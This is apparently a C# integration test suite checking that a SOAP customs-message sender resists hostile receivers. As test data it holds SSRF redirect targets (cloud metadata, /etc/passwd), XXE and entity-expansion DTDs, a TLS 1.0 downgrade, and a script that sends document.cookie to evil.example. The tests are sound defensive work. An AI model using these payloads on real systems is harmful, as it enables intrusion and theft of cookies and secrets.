using System.Net;
using System.Net.Sockets;
using System.Security.Cryptography;
using System.Security.Cryptography.X509Certificates;
using System.Text;
using Adapter.Contracts.Admin;
using Adapter.Host.Delivery;
using Adapter.Host.Delivery.Outcomes;
using Adapter.Host.Delivery.Transports;
using Adapter.Mappings.Validation;

namespace Adapter.Integration.Tests.Delivery;

public sealed class WcfAttackTestsOfReceivers() : AttackTestsOfReceivers(SoapTransportKind.Wcf);

public sealed class RawAttackTestsOfReceivers() : AttackTestsOfReceivers(SoapTransportKind.Raw);

/// <summary>What a hostile or broken receiver may try with its answers.</summary>
public abstract class AttackTestsOfReceivers : IDisposable
{
    /// <summary>Turns a wait that would never end into a failure. No test comes near it.</summary>
    private static readonly TimeSpan Hang = TimeSpan.FromSeconds(30);

    private readonly DirectoryInfo _secrets = Directory.CreateTempSubdirectory("customstransit-secrets-");
    private readonly Sender _sender;

    protected AttackTestsOfReceivers(SoapTransportKind kind) => _sender = new Sender(kind, new OutboundOptions { AllowLoopback = true, SecretsFolder = _secrets.FullName });

    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    [Theory]
    [InlineData(200, "text/html", "<html><body>Thank you!</body></html>", typeof(NextMove.Reconcile), "cannot be read")]
    [InlineData(202, null, "", typeof(NextMove.Reconcile), "it is empty")]
    [InlineData(204, null, "", typeof(NextMove.Reconcile), "it is empty")]
    [InlineData(200, "text/xml", "FAULT", typeof(NextMove.Park), "SOAP fault Client")]
    [InlineData(500, "text/xml", "RECEIPT", typeof(NextMove.Delivered), "HTTP 500")]
    public async Task Attack_43_every_odd_pair_of_status_and_body_has_its_verdict(int status, string? contentType, string body, Type verdict, string says)
    {
        body = body switch { "FAULT" => Samples.Fault("Client"), "RECEIPT" => Samples.Envelope(Samples.Receipt()), _ => body };
        await using var peer = await WebPeer.AnsweringAsync(status, contentType, body);

        var (move, evidence) = _sender.Judge(await _sender.SendAsync(peer.Endpoint));

        move.ShouldBeOfType(verdict);
        evidence.Detail.ShouldContain(says);
    }

    [Fact]
    public async Task Attack_44_an_answer_without_end_is_cut_at_the_cap()
    {
        var written = 0L;
        await using var peer = new SocketPeer(async (_, socket, _) =>
        {
            var block = Encoding.ASCII.GetBytes(new string(' ', 64 * 1024));
            await socket.SendAsync(Encoding.ASCII.GetBytes("HTTP/1.1 200 OK\r\nContent-Type: text/xml\r\nContent-Length: 1099511627776\r\n\r\n"));
            // Ends by the exception of a closed connection; a gigabyte without one is the failure.
            while (Interlocked.Add(ref written, block.Length) < 1 << 30)
            {
                await socket.SendAsync(block);
            }

            return false;
        });

        var evidence = await _sender.SendAsync(peer.Endpoint).WaitAsync(Hang, Cancel);

        evidence.Reply.Length.ShouldBe(Exchange.ReplyCap);
        _sender.Judge(evidence).Move.ShouldBeOfType<NextMove.Reconcile>();
        Interlocked.Read(ref written).ShouldBeLessThan(1 << 30);
    }

    [Fact]
    public async Task Attack_44_an_answer_that_drips_ends_with_the_attempts_time()
    {
        var dripping = new TaskCompletionSource(TaskCreationOptions.RunContinuationsAsynchronously);
        await using var peer = new SocketPeer(async (_, socket, _) =>
        {
            await socket.SendAsync(Encoding.ASCII.GetBytes("HTTP/1.1 200 OK\r\nContent-Type: text/xml\r\nContent-Length: 1000000\r\n\r\n"));
            while (true)
            {
                await socket.SendAsync("<"u8.ToArray());
                dripping.TrySetResult();
                await Task.Delay(10, Cancel);
            }
        });

        var sending = _sender.SendAsync(peer.Endpoint);
        await dripping.Task.WaitAsync(Hang, Cancel);
        _sender.Time.Advance(TimeSpan.FromSeconds(30));
        var (move, evidence) = _sender.Judge(await sending.WaitAsync(Hang, Cancel), idempotent: true);

        evidence.Detail.ShouldContain("within 30 s");
        move.ShouldBeOfType<NextMove.RetryAt>().CountsAsAttempt.ShouldBeTrue();
    }

    [Theory]
    [InlineData("http://169.254.169.254/latest/meta-data/")]
    [InlineData("file:///etc/passwd")]
    [InlineData("//169.254.169.254/")]
    [InlineData("gopher://127.0.0.1:25/")]
    public async Task Attack_45_a_redirect_to_where_nobody_should_go_is_not_followed(string location)
    {
        await using var peer = await WebPeer.AnsweringAsync(302, null, "", ("Location", location));

        var evidence = await _sender.SendAsync(peer.Endpoint);

        (evidence.HttpStatus, evidence.Socket).ShouldBe((302, null));
        evidence.Detail.ShouldContain("Redirects are not followed");
        peer.Received.Count.ShouldBe(1);
    }

    [Fact]
    public async Task Attack_46_a_receipt_for_another_message_is_no_receipt_and_says_whose_it_is()
    {
        await using var peer = await WebPeer.AnsweringAsync(200, "text/xml", Samples.Envelope(Samples.Receipt(id: "ffffffffffffffffffffffffffffffff")));

        var (move, evidence) = _sender.Judge(await _sender.SendAsync(peer.Endpoint));

        move.ShouldBeOfType<NextMove.Reconcile>();
        evidence.Detail.ShouldContain("names message 'ffffffffffffffffffffffffffffffff'");
    }

    [Theory]
    [InlineData("<!DOCTYPE e [<!ENTITY x SYSTEM 'TARGET'>]>")]
    [InlineData("<!DOCTYPE e SYSTEM 'TARGET'>")]
    [InlineData("<!DOCTYPE e [<!ENTITY % p SYSTEM 'TARGET'> %p;]>")]
    [InlineData("<!DOCTYPE e [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'><!ENTITY x '&b;&b;&b;&b;&b;&b;&b;&b;'>]>")]
    public async Task Attack_48_an_answer_with_a_document_type_is_not_read_and_nothing_is_fetched(string doctype)
    {
        await using var target = await WebPeer.AnsweringAsync(200, "application/xml-dtd", "<!ENTITY x 'OK'>");
        await using var peer = await WebPeer.AnsweringAsync(
            200, "text/xml", doctype.Replace("TARGET", target.Endpoint.ToString(), StringComparison.Ordinal) + Samples.Envelope(Samples.Receipt("&x;")));

        var (move, evidence) = _sender.Judge(await _sender.SendAsync(peer.Endpoint));

        target.Received.ShouldBeEmpty();
        move.ShouldBeOfType<NextMove.Reconcile>();
        evidence.Detail.ShouldContain("DTD");
    }

    [Fact]
    public async Task Attack_49_a_fault_text_stays_the_text_that_it_is()
    {
        const string script = "<script>fetch('//evil.example/'+document.cookie)</script>";
        await using var peer = await WebPeer.AnsweringAsync(
            500, "text/xml", Samples.Fault("Client").Replace("no luck", System.Security.SecurityElement.Escape(script), StringComparison.Ordinal));

        var evidence = await _sender.SendAsync(peer.Endpoint);

        evidence.Fault.ShouldNotBeNull().Reason.ShouldBe(script);
        evidence.Detail.ShouldEndWith(script);
    }

    [Theory]
    [InlineData("127.0.0.1", 30, true)]
    [InlineData("manifest.customs.example", 30, false)]
    [InlineData("127.0.0.1", -1, false)]
    public async Task Attack_50_a_certificate_for_another_name_or_time_gets_nothing(string name, int daysLeft, bool trusted)
    {
        using var authority = Issued("authority", null, 30, issuer: null);
        using var certificate = Issued(name, name, daysLeft, authority);
        await File.WriteAllTextAsync(Path.Combine(_secrets.FullName, "authority.pem"), authority.ExportCertificatePem(), Cancel);
        await using var peer = await WebPeer.StartAsync(
            context => context.Response.Body.WriteAsync(Encoding.UTF8.GetBytes(Samples.Envelope(Samples.Receipt()))).AsTask(), certificate);
        var call = Samples.Call(peer.Endpoint);

        var evidence = await _sender.Transport.SendAsync(call with { To = call.To with { TrustedAuthorities = "authority.pem" } }, Cancel);

        evidence.RequestLeft.ShouldBe(trusted, evidence.Detail);
        peer.Received.Count.ShouldBe(trusted ? 1 : 0);
        if (!trusted)
        {
            evidence.Detail.ShouldStartWith("TLS with manifest");
            _sender.Judge(evidence).Move.ShouldBeOfType<NextMove.RetryAt>().CountsAsAttempt.ShouldBeFalse();
        }
    }

    [Fact]
    public async Task Attack_50_a_server_that_speaks_an_older_TLS_gets_nothing_and_the_reason_can_be_read()
    {
        using var listener = new TcpListener(IPAddress.Loopback, 0);
        listener.Start();
        var sent = AnswerInTls10Async(listener);

        var evidence = await _sender.SendAsync(new Uri($"https://127.0.0.1:{((IPEndPoint)listener.LocalEndpoint).Port}/soap"));

        evidence.RequestLeft.ShouldBeFalse(evidence.Detail);
        evidence.Detail.ShouldStartWith("TLS with manifest");
        Encoding.Latin1.GetString(await sent).ShouldNotContain("Envelope");
        _sender.Judge(evidence).Move.ShouldBeOfType<NextMove.RetryAt>().CountsAsAttempt.ShouldBeFalse();
        var breakers = new Breakers(_sender.Time);
        for (var i = 0; i < Breakers.Threshold; i++)
        {
            breakers.Observe("manifest", evidence);
        }

        breakers.View("manifest").ShouldSatisfyAllConditions(b => b.State.ShouldBe("open"), b => b.Reason.ShouldBe(evidence.Detail));
    }

    /// <summary>Chooses TLS 1.0 in its hello, as a man in the middle would who can break that.</summary>
    /// <returns>All that came after the client's hello.</returns>
    private static async Task<byte[]> AnswerInTls10Async(TcpListener listener)
    {
        using var socket = await listener.AcceptSocketAsync(Cancel);
        var buffer = new byte[16 * 1024];
        await socket.ReceiveAsync(buffer, Cancel);
        byte[] hello = [0x16, 3, 1, 0, 42, 2, 0, 0, 38, 3, 1, .. new byte[32], 0, 0, 0x2f, 0];
        await socket.SendAsync(hello, Cancel);
        using var rest = new MemoryStream();
        for (int read; (read = await socket.ReceiveAsync(buffer, Cancel)) > 0;)
        {
            rest.Write(buffer, 0, read);
        }

        return rest.ToArray();
    }

    [Fact]
    public async Task Attack_51_what_a_description_or_a_schema_imports_from_elsewhere_is_not_fetched()
    {
        await using var elsewhere = await WebPeer.AnsweringAsync(200, "text/xml", "<schema xmlns=\"http://www.w3.org/2001/XMLSchema\" targetNamespace=\"urn:else\"/>");
        var schema =
            $"<xs:schema xmlns:xs=\"http://www.w3.org/2001/XMLSchema\" targetNamespace=\"urn:test\"><xs:import namespace=\"urn:else\" schemaLocation=\"{elsewhere.Endpoint}\"/><xs:element name=\"r\"/></xs:schema>";
        await using var peer = await WebPeer.AnsweringAsync(
            200, "text/xml",
            $"<w:definitions xmlns:w=\"http://schemas.xmlsoap.org/wsdl/\"><w:import namespace=\"urn:else\" location=\"{elsewhere.Endpoint}\"/><w:types>{schema}</w:types></w:definitions>");
        var file = Path.Combine(_secrets.FullName, "theirs.xsd");
        await File.WriteAllTextAsync(file, schema, Cancel);

        (await _sender.ReachAsync(Samples.Call(peer.Endpoint).To with { Probe = new Uri(peer.Endpoint, "/soap?wsdl") })).ShouldBeNull("as a probe it says that the receiver is there");
        (await _sender.SendAsync(peer.Endpoint)).Detail.ShouldContain("not a SOAP envelope");
        SchemaSetCompiler.Compile("theirs", "{urn:test}r", [new SchemaFile("theirs.xsd", Encoding.UTF8.GetBytes(schema))]).Problems.ShouldNotBeEmpty();
        SchemaFolder.Load([file]).Contains("urn:else").ShouldBeFalse();

        peer.Received.Count.ShouldBe(2);
        elsewhere.Received.ShouldBeEmpty();
    }

    [Fact]
    public async Task Attack_89_a_secret_that_is_missing_sends_nothing_and_a_renewed_one_is_used_without_a_restart()
    {
        await using var peer = await WebPeer.AnsweringAsync(200, "text/xml", Samples.Envelope(Samples.Receipt()));
        var file = Path.Combine(_secrets.FullName, "customs.password");
        var call = Samples.Call(peer.Endpoint);
        call = call with { To = call.To with { Credentials = new DestinationCredentials { Scheme = CredentialScheme.Basic, User = "adapter", Password = "file:customs.password" } } };

        var without = await _sender.Transport.SendAsync(call, Cancel);
        await File.WriteAllTextAsync(file, "first", Cancel);
        await _sender.Transport.SendAsync(call, Cancel);
        await File.WriteAllTextAsync(file, "second", Cancel);
        await _sender.Transport.SendAsync(call, Cancel);

        without.RequestLeft.ShouldBeFalse();
        without.Detail.ShouldContain("customs.password");
        peer.Received.Select(r => Encoding.UTF8.GetString(Convert.FromBase64String(r.Headers["Authorization"].Split(' ')[1]))).ShouldBe(["adapter:first", "adapter:second"]);
    }

    [Theory]
    [InlineData("")]
    [InlineData("HTTP/1.1 100 Continue\r\n\r\n")]
    [InlineData("HTTP/1.1 408 Request Timeout\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")]
    public async Task A_request_is_written_once_whatever_a_used_connection_does_after_it(string beginning)
    {
        await using var peer = new SocketPeer(async (_, socket, number) =>
        {
            await socket.SendAsync(Encoding.UTF8.GetBytes(number == 1 ? SocketPeer.Ok(Samples.Envelope(Samples.Receipt())) : beginning));
            if (number > 1)
            {
                socket.Shutdown(SocketShutdown.Both);
            }

            return number == 1;
        });

        await _sender.SendAsync(peer.Endpoint);
        var (move, _) = _sender.Judge(await _sender.SendAsync(peer.Endpoint).WaitAsync(Hang, Cancel));

        move.ShouldBeOfType<NextMove.Reconcile>();
        (peer.Connections, peer.Requests).ShouldBe((1, 2));
    }

    [Theory]
    [InlineData("urn:uuid:01234567-89ab-cdef-0123-456789abcdef", null, true)]
    [InlineData("urn:uuid:01234567-89AB-CDEF-0123-456789ABCDEF", "http://www.w3.org/2005/08/addressing/reply", true)]
    [InlineData("http://www.w3.org/2005/08/addressing/unspecified", null, true)]
    [InlineData("urn:uuid:ffffffff-89ab-cdef-0123-456789abcdef", "urn:other:relation", true)]
    [InlineData("urn:uuid:ffffffff-89ab-cdef-0123-456789abcdef", null, false)]
    public async Task An_addressed_answer_counts_only_for_the_message_it_relates_to(string relatesTo, string? relation, bool counts)
    {
        var header = $"<s:Header><a:RelatesTo xmlns:a='http://www.w3.org/2005/08/addressing'{(relation is null ? "" : $" RelationshipType='{relation}'")}>{relatesTo}</a:RelatesTo></s:Header>";
        await using var peer = await WebPeer.AnsweringAsync(200, "text/xml", Samples.Envelope(Samples.Receipt()).Replace("<s:Body>", header + "<s:Body>", StringComparison.Ordinal));
        var call = Samples.Call(peer.Endpoint);

        var addressed = _sender.Judge(await _sender.Transport.SendAsync(call with { To = call.To with { Addressing = true } }, Cancel));
        var plain = _sender.Judge(await _sender.Transport.SendAsync(call, Cancel));

        addressed.Move.ShouldBeOfType(counts ? typeof(NextMove.Delivered) : typeof(NextMove.Reconcile), addressed.Evidence.Detail);
        plain.Move.ShouldBeOfType<NextMove.Delivered>("who does not speak WS-Addressing is judged by the body alone");
    }

    public void Dispose()
    {
        _sender.Dispose();
        _secrets.Delete(recursive: true);
        GC.SuppressFinalize(this);
    }

    private static X509Certificate2 Issued(string subject, string? name, int daysLeft, X509Certificate2? issuer)
    {
        using var key = RSA.Create(2048);
        var request = new CertificateRequest($"CN={subject}", key, HashAlgorithmName.SHA256, RSASignaturePadding.Pkcs1);
        request.CertificateExtensions.Add(new X509BasicConstraintsExtension(issuer is null, hasPathLengthConstraint: false, 0, critical: true));
        if (name is not null)
        {
            var names = new SubjectAlternativeNameBuilder();
            if (System.Net.IPAddress.TryParse(name, out var address))
            {
                names.AddIpAddress(address);
            }
            else
            {
                names.AddDnsName(name);
            }

            request.CertificateExtensions.Add(names.Build());
        }

        var now = TimeProvider.System.GetUtcNow();
        if (issuer is null)
        {
            // Longer than what it signs, which is made a moment later.
            return request.CreateSelfSigned(now.AddDays(-30), now.AddDays(daysLeft + 1));
        }

        using var bare = request.Create(issuer, now.AddDays(-20), now.AddDays(daysLeft), RandomNumberGenerator.GetBytes(8));
        return bare.CopyWithPrivateKey(key);
    }
}
